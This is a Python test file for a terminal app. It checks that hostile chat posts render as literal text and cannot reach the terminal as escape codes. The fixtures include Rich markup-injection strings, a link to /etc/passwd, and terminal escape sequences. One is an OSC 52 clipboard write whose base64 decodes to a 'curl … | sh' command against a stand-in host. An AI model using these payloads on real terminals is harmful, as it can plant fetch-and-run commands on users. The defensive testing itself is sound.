"""Hostile post text is shown literally, runs nothing, and never reaches the terminal as escapes."""
from __future__ import annotations

import re

from tests.conftest import qid_of, screen_text, settle
from tui.app import QuestionTimeApp
from tui.screens.main import MainScreen
from tui.widgets.queue_list import QueueList

MARKUP = [
    "[@click=app.quit]win a prize[/]",
    "[link=file:///etc/passwd]x[/link]",
    "oops [/]",
    "[b]bold?",
    "[$accent]accent?",
]
ESCAPES = "set \x1b]0;title\x07 clip \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 wipe \x1b[2J done\x00\u202eevil\u202c\x9b31m"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile_items() -> list[dict]:
    items = [{"source": "evil", "remote_id": f"m{n}", "author": f"@m{n}[/]", "author_name": text, "text": text}
             for n, text in enumerate(MARKUP)]
    items.append({"source": "evil", "remote_id": "esc", "author": "@esc\x1b[31m", "text": ESCAPES})
    items.append({"source": "evil", "remote_id": "long", "author": "@long", "text": "x" * 10_000 + " [/]"})
    return items


async def test_hostile_posts_render_literally_and_safely(session, clock):
    session.add_questions(hostile_items())
    app = QuestionTimeApp(session, clock=clock, live=False)
    async with app.run_test(size=(160, 48)) as pilot:
        await pilot.press("6")
        await settle(pilot)
        queue = app.screen.query_one("#queue", QueueList)
        for text in MARKUP:
            qid = qid_of(session, next(q.author for q in session.state.questions.values() if q.text == text))
            assert queue.select(qid)
            await pilot.pause()
            shown = screen_text(app)
            assert text in shown  # in the queue row and in full in the draft pane
            await pilot.click("#draft-question")
            await pilot.click("#queue", offset=(40, queue.cursor - int(queue.scroll_y)))
            assert isinstance(app.screen, MainScreen) and app.is_running
        queue.select(qid_of(session, "@esc[31m"))
        await pilot.press("t", *"[b]tag", "enter")
        await settle(pilot)
        shown = screen_text(app)
        assert "set ]0;title clip ]52;c;Y3VybCBldmlsLnNofHNo wipe [2J doneevil31m" in shown  # ESC, BEL, NUL, bidi gone
        assert "#[b]tag" in shown
        svg = app.export_screenshot()
        assert not CONTROL.search(svg.replace("\n", "")), "a control character reached the screen"
        for y in range(queue.size.height):
            assert not CONTROL.search(queue.render_line(y).text)
        queue.select(qid_of(session, "@long"))
        await pilot.press("enter", *"ok", "ctrl+s")
        await settle(pilot)
        assert app.is_running
    assert session.state.questions[qid_of(session, "@long")].status == "answered"
